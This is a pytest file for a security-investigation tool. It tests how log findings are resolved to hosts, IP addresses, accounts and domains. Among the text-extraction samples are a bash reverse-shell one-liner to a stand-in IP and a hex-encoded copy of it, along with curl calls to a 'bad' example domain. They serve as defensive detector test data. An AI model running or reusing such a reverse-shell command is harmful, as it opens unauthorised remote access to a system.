from __future__ import annotations

import pytest
from tests.investigate.made import START, findings, line

from bartizan.detect.identities.contract import Fact
from bartizan.investigate.findings import Unread, read_findings, things_in
from bartizan.investigate.naming import Names


def _fact(rule: str, names: tuple[str, str], first: int | None = None, last: int | None = None, ends: str = "unknown") -> Fact:
    return Fact(
        rule=rule,
        left_kind="ip",
        left=names[0],
        right_kind="host",
        right=names[1],
        scope="",
        source="made",
        first_seen=first,
        last_seen=last,
        valid_from=first,
        valid_to=last,
        ends=ends,
        count=1,
    )


HOUR = 3_600_000
NAMES = Names(
    ["web-01", "ws-1.corp.example.com", "ws-1"],
    [
        _fact("host-address", ("10.0.0.7", "ws-1"), START, START + 9 * HOUR),
        _fact("dhcp-lease-host", ("10.0.0.7", "ws-2"), START + 48 * HOUR, None),
        _fact("host-address", ("10.0.0.9", "ws-3"), START, None),
        _fact("host-address", ("10.0.0.9", "ws-4"), START, None),
        _fact("host-address", ("10.0.0.8", "ws-1"), START, START + HOUR, "contested"),
        _fact("user-sid", ("S-1-5-21-1-2-3-1101", "corp\\alice")),
        _fact("user-sid", ("S-1-5-21-1-2-3-1101", "alice@corp.example.com")),
    ],
)


def told(**attributes: str | list[dict[str, object]]) -> list[str]:
    [finding] = (NAMES.resolve(one) for one in read_findings([line("r", 60, **attributes)], "made", Unread()))
    return [f"{one.entity} {one.role.value} {one.rule}".strip() for one in finding.named]


def test_a_label_is_the_only_full_name_that_begins_with_it() -> None:
    assert told(device="ws-1") == ["host:ws-1.corp.example.com device host-label"]
    assert told(device="other") == ["host:other device"]


def test_an_address_is_the_host_that_held_it_then() -> None:
    assert told(device="srv", src_endpoint__ip="10.0.0.7") == ["host:srv device", "host:ws-1.corp.example.com source address"]
    assert NAMES.holder("10.0.0.7", (START + 50 * HOUR) * 1_000_000) == "ws-2"
    assert NAMES.holder("10.0.0.7", (START - 48 * HOUR) * 1_000_000) == ""


def test_an_address_that_two_hosts_claim_or_that_is_contested_is_nobodys() -> None:
    assert told(device="srv", src_endpoint__ip="10.0.0.9") == ["host:srv device", "ip:10.0.0.9 source"]
    assert told(device="srv", src_endpoint__ip="10.0.0.8") == ["host:srv device", "ip:10.0.0.8 source"]


def test_an_account_is_one_by_its_sid_and_by_its_upn() -> None:
    assert NAMES.account("S-1-5-21-1-2-3-1101") == ("corp\\alice", "same-sid")
    assert NAMES.account("alice@corp.example.com") == ("corp\\alice", "same-sid")
    assert NAMES.account("bob@corp.example.com") == ("corp\\bob", "upn")
    assert NAMES.account("corp\\bob") == ("corp\\bob", "")


def test_a_log_that_names_no_machine_is_of_the_host_after_which_its_folder_is_called() -> None:
    assert told(path="logs/linux/web-01/audit.log") == ["host:web-01 device log-folder"]
    assert told(path="logs\\WEB-01\\audit.log") == ["host:web-01 device log-folder"]
    assert told(path="logs/web-01/ws-1/audit.log") == []
    assert told(path="logs/web-01/audit.log", device="srv") == ["host:srv device"]
    assert NAMES.folder_host("logs/linux/web-01/audit.log") == "web-01"
    assert NAMES.folder_host("") == ""


def test_hosts_and_sites_are_found_in_words_and_what_is_ours_or_everybodys_is_not() -> None:
    assert told(device="srv", raw="schtasks /s ws-1 /tn x") == ["host:srv device", "host:ws-1.corp.example.com object named-in-text"]
    assert told(device="srv", raw="curl https://a.b.bad.example.net/x") == ["host:srv device", "domain:bad.example.net object site"]
    assert told(device="srv", raw="curl https://wiki.corp.example.com/x") == ["host:srv device"]


def test_what_lies_where_systems_keep_their_programs_names_nothing() -> None:
    system = told(
        device="srv", process__file__path="C:\\Windows\\System32\\cmd.exe", process__file__hashes=[{"value": "ab12", "algorithm_id": 1}]
    )
    own = told(device="srv", process__file__path="C:\\Users\\a\\x.exe", process__file__hashes=[{"value": "ab12", "algorithm_id": 1}])
    assert (system, own) == (["host:srv device"], ["host:srv device", "file:c:\\users\\a\\x.exe object", "hash:ab12 object"])


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("bash -i >& /dev/tcp/203.0.113.45/4444", ["ip:203.0.113.45"]),
        ("Mozilla/5.0 Chrome/122.0.0.0 Safari", []),
        ("nmap 10.20.0.0/16", []),
        ("127.0.0.1 and 1.2.3.4.5 and 999.1.1.1", []),
        ("http://Evil.Example.net/x ftp://user@files.example.org", ["domain:evil.example.net"]),
        ("a2=62617368202D69203E26202F6465762F7463702F3230332E302E3131332E34352F34343434", ["ip:203.0.113.45"]),
    ],
)
def test_addresses_and_sites_are_read_from_text(text: str, expected: list[str]) -> None:
    assert [str(one) for one in things_in(text)] == expected


def test_of_several_records_only_what_each_names_is_kept() -> None:
    import json

    one, other = (
        json.loads(line("guess", minute, device="db", src_endpoint__ip="192.0.2.10", user__name=f"u{minute}")) for minute in (1, 2)
    )
    one["evidences"] += other["evidences"]
    [finding] = findings([json.dumps(one).encode()])
    assert [str(named.entity) for named in finding.named] == ["host:db", "ip:192.0.2.10"]
    assert len(finding.records) == 2


def test_lines_that_are_no_findings_are_counted_and_the_first_is_named() -> None:
    unread = Unread()
    good = line("r", 1, device="a")
    odd = [b"{", b"[]", b'{"finding_info": 7}', b'{"finding_info":{"uid":"zz","title":"t"},"time":1}', b"\xff", b'{"class_uid":1001}', b""]
    assert len(list(read_findings([*odd, good], "f", unread))) == 1
    assert unread.count == 6
    assert unread.example.startswith("f:1: ")
